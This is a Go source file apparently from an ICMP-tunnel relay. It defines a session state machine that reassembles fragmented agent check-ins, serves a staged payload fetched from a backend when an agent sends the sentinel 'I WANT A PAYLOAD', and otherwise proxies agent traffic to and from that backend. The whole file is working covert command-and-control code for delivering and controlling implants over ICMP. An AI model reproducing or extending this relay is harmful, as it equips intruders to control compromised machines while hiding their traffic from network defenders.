package relay

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"log/slog"
	"net"
	"sync"
	"time"

	"github.com/postalsys/kaja-relay/internal/backend"
	"github.com/postalsys/kaja-relay/internal/fragment"
	"github.com/postalsys/kaja-relay/internal/logging"
	"github.com/postalsys/kaja-relay/internal/metrics"
)

// payloadSentinel is the literal command an agent sends when it wants its
// staged payload instead of a proxied exchange.
const payloadSentinel = "I WANT A PAYLOAD"

// State is the position of a session in its checkin cycle.
type State int32

const (
	// StateIdle means no checkin cycle is in flight.
	StateIdle State = iota
	// StateReassembling means the session is collecting inbound chunks.
	StateReassembling
	// StateClassifying means the reassembled bytes are being inspected.
	StateClassifying
	// StatePayloadResponse means the session is serving the staged payload.
	StatePayloadResponse
	// StateProxy means the session is relaying a backend exchange.
	StateProxy
)

// String returns a human-readable name for the state.
func (s State) String() string {
	switch s {
	case StateIdle:
		return "IDLE"
	case StateReassembling:
		return "REASSEMBLING"
	case StateClassifying:
		return "CLASSIFYING"
	case StatePayloadResponse:
		return "PAYLOAD_RESPONSE"
	case StateProxy:
		return "PROXY"
	default:
		return "UNKNOWN"
	}
}

var (
	// ErrNotReassembling means a chunk arrived while no checkin cycle was
	// waiting for data.
	ErrNotReassembling = errors.New("session is not reassembling")

	// ErrMailboxFull means the session's inbound chunk queue overflowed.
	ErrMailboxFull = errors.New("session mailbox is full")
)

// SessionConfig carries the pieces a session needs beyond its identity.
type SessionConfig struct {
	Channel           *backend.Channel
	Writer            fragment.Writer
	Sender            *fragment.Sender
	DefaultTag        string
	Bootstrap         backend.Bootstrap
	MailboxSize       int
	ReassemblyTimeout time.Duration
	Logger            *slog.Logger
	Metrics           *metrics.Metrics
}

// Session is the per-agent state machine. One session exists per agent
// identifier; it owns the backend channel and drives one checkin cycle at a
// time.
type Session struct {
	// AgentID keys the session; it is the ICMP identifier the agent stamps
	// on every packet.
	AgentID uint16

	// AgentAddr is where replies go. It is fixed at creation and used for
	// packet construction and logging, not identity.
	AgentAddr net.Addr

	// Tag is the marker the agent checked in with.
	Tag string

	channel *backend.Channel
	mailbox chan []byte
	writer  fragment.Writer
	sender  *fragment.Sender

	defaultTag        string
	bootstrap         backend.Bootstrap
	reassemblyTimeout time.Duration

	// checkinMu serializes checkin cycles. The dispatcher may observe a
	// second seq=0 announcement while a cycle is still in flight; the
	// overlapping trigger is dropped rather than letting two cycles fight
	// over the mailbox.
	checkinMu sync.Mutex

	mu            sync.Mutex
	state         State
	expectedSize  uint32
	cachedPayload []byte
	createdAt     time.Time
	lastActivity  time.Time
	checkins      uint64

	logger  *slog.Logger
	metrics *metrics.Metrics
}

// SessionInfo is a point-in-time snapshot of a session.
type SessionInfo struct {
	AgentID       uint16    `json:"agent_id"`
	Address       string    `json:"address"`
	State         string    `json:"state"`
	ExpectedSize  uint32    `json:"expected_size"`
	PayloadCached bool      `json:"payload_cached"`
	Checkins      uint64    `json:"checkins"`
	CreatedAt     time.Time `json:"created_at"`
	LastActivity  time.Time `json:"last_activity"`
}

// NewSession creates a session for an agent that just announced its first
// checkin. The backend channel in cfg must already be connected.
func NewSession(agentID uint16, addr net.Addr, tag string, expectedSize uint32, cfg SessionConfig) *Session {
	logger := cfg.Logger
	if logger == nil {
		logger = logging.NopLogger()
	}
	m := cfg.Metrics
	if m == nil {
		m = metrics.Default()
	}
	now := time.Now()

	return &Session{
		AgentID:           agentID,
		AgentAddr:         addr,
		Tag:               tag,
		channel:           cfg.Channel,
		mailbox:           make(chan []byte, cfg.MailboxSize),
		writer:            cfg.Writer,
		sender:            cfg.Sender,
		defaultTag:        cfg.DefaultTag,
		bootstrap:         cfg.Bootstrap,
		reassemblyTimeout: cfg.ReassemblyTimeout,
		state:             StateIdle,
		expectedSize:      expectedSize,
		createdAt:         now,
		lastActivity:      now,
		logger:            logger,
		metrics:           m,
	}
}

// GetState returns the session's current state.
func (s *Session) GetState() State {
	s.mu.Lock()
	defer s.mu.Unlock()

	return s.state
}

// SetExpectedSize records a new checkin announcement for an existing
// session.
func (s *Session) SetExpectedSize(n uint32) {
	s.mu.Lock()
	s.expectedSize = n
	s.lastActivity = time.Now()
	s.mu.Unlock()

	s.logger.Info("agent checkin",
		logging.KeyAgentID, s.AgentID,
		logging.KeySize, n)
}

// ExpectedSize returns the currently announced transfer size.
func (s *Session) ExpectedSize() uint32 {
	s.mu.Lock()
	defer s.mu.Unlock()

	return s.expectedSize
}

// Deliver hands an inbound chunk to the session. It never blocks: chunks
// are dropped when no cycle is reassembling or when the mailbox is full,
// matching the fire-and-forget nature of the tunnel.
func (s *Session) Deliver(chunk []byte) error {
	if s.GetState() != StateReassembling {
		return ErrNotReassembling
	}

	select {
	case s.mailbox <- chunk:
		return nil
	default:
		return ErrMailboxFull
	}
}

// Checkin runs one full cycle: reassemble the agent's transfer, classify
// it, then either serve the staged payload or proxy it to the backend.
// Intended to run on its own goroutine; overlapping triggers are dropped.
func (s *Session) Checkin(ctx context.Context) {
	if !s.checkinMu.TryLock() {
		s.logger.Warn("checkin already in flight, dropping trigger",
			logging.KeyAgentID, s.AgentID)
		s.metrics.RecordCheckin("overlap", 0)
		return
	}
	defer s.checkinMu.Unlock()

	start := time.Now()

	s.mu.Lock()
	expected := s.expectedSize
	s.checkins++
	s.mu.Unlock()

	s.drainMailbox()
	s.setState(StateReassembling)
	s.logger.Info("checkin started",
		logging.KeyAgentID, s.AgentID,
		logging.KeySize, expected)

	data, err := s.reassemble(ctx, expected)
	if err != nil {
		s.setState(StateIdle)
		s.logger.Error("reassembly failed",
			logging.KeyAgentID, s.AgentID,
			logging.KeySize, expected,
			logging.KeyError, err)
		s.metrics.RecordCheckin("error", time.Since(start).Seconds())
		return
	}

	s.setState(StateClassifying)
	s.logger.Debug("checkin data reassembled",
		logging.KeyAgentID, s.AgentID,
		logging.KeySize, len(data),
		"data", fmt.Sprintf("%x", data))

	var outcome string
	if bytes.Equal(data, []byte(payloadSentinel)) {
		outcome = "payload"
		s.setState(StatePayloadResponse)
		s.logger.Info("agent requested payload",
			logging.KeyAgentID, s.AgentID)
		err = s.servePayload(ctx)
	} else {
		outcome = "proxy"
		s.setState(StateProxy)
		err = s.proxy(ctx, data)
	}

	s.setState(StateIdle)
	if err != nil {
		s.logger.Error("checkin failed",
			logging.KeyAgentID, s.AgentID,
			logging.KeyError, err)
		s.metrics.RecordCheckin("error", time.Since(start).Seconds())
		return
	}

	s.logger.Info("checkin complete",
		logging.KeyAgentID, s.AgentID,
		"outcome", outcome,
		logging.KeyDuration, time.Since(start))
	s.metrics.RecordCheckin(outcome, time.Since(start).Seconds())
}

// reassemble collects chunks from the mailbox until the announced size is
// reached. With no timeout configured it blocks as long as the agent keeps
// the transfer open.
func (s *Session) reassemble(ctx context.Context, expected uint32) ([]byte, error) {
	if s.reassemblyTimeout > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, s.reassemblyTimeout)
		defer cancel()
	}
	return fragment.Reassemble(ctx, s.mailbox, int(expected))
}

// servePayload answers the payload sentinel. The first request per session
// runs the bootstrap exchange with the backend; later requests are served
// from the cache. The reply always goes out under the default tag.
func (s *Session) servePayload(ctx context.Context) error {
	s.mu.Lock()
	payload := s.cachedPayload
	s.mu.Unlock()

	if len(payload) == 0 {
		s.logger.Info("fetching payload from backend",
			logging.KeyAgentID, s.AgentID,
			"arch", s.bootstrap.Arch)

		fetched, err := s.channel.FetchPayload(s.bootstrap)
		if err != nil {
			return fmt.Errorf("fetch payload: %w", err)
		}
		s.metrics.RecordPayloadFetch()

		s.mu.Lock()
		s.cachedPayload = fetched
		s.mu.Unlock()
		payload = fetched
	} else {
		s.logger.Debug("serving payload from cache",
			logging.KeyAgentID, s.AgentID,
			logging.KeySize, len(payload))
		s.metrics.RecordPayloadCacheHit()
	}

	return s.sender.Send(ctx, s.writer, s.defaultTag, payload)
}

// proxy forwards the reassembled bytes to the backend verbatim, waits for
// the backend's reply, and fragments it back to the agent under the
// session's tag.
func (s *Session) proxy(ctx context.Context, data []byte) error {
	s.logger.Info("proxying checkin to backend",
		logging.KeyAgentID, s.AgentID,
		logging.KeySize, len(data))

	if err := s.channel.Send(data); err != nil {
		return fmt.Errorf("forward to backend: %w", err)
	}
	s.metrics.RecordFrameSent(len(data))

	reply, err := s.channel.Receive()
	if err != nil {
		return fmt.Errorf("backend reply: %w", err)
	}
	s.metrics.RecordFrameReceived(len(reply))

	return s.sender.Send(ctx, s.writer, s.Tag, reply)
}

// drainMailbox discards chunks left over from an earlier cycle so they
// cannot pollute the one about to start.
func (s *Session) drainMailbox() {
	for {
		select {
		case <-s.mailbox:
			s.metrics.RecordPacketDropped("stale")
		default:
			return
		}
	}
}

func (s *Session) setState(next State) {
	s.mu.Lock()
	prev := s.state
	s.state = next
	s.lastActivity = time.Now()
	s.mu.Unlock()

	s.logger.Debug("session state",
		logging.KeyAgentID, s.AgentID,
		logging.KeyState, next.String(),
		"from", prev.String())
}

// Info returns a snapshot of the session for status reporting.
func (s *Session) Info() SessionInfo {
	s.mu.Lock()
	defer s.mu.Unlock()

	return SessionInfo{
		AgentID:       s.AgentID,
		Address:       s.AgentAddr.String(),
		State:         s.state.String(),
		ExpectedSize:  s.expectedSize,
		PayloadCached: len(s.cachedPayload) > 0,
		Checkins:      s.checkins,
		CreatedAt:     s.createdAt,
		LastActivity:  s.lastActivity,
	}
}

// Close releases the session's backend channel. Any checkin still blocked
// on the backend will fail and log; sessions are only closed at relay
// shutdown.
func (s *Session) Close() error {
	return s.channel.Close()
}
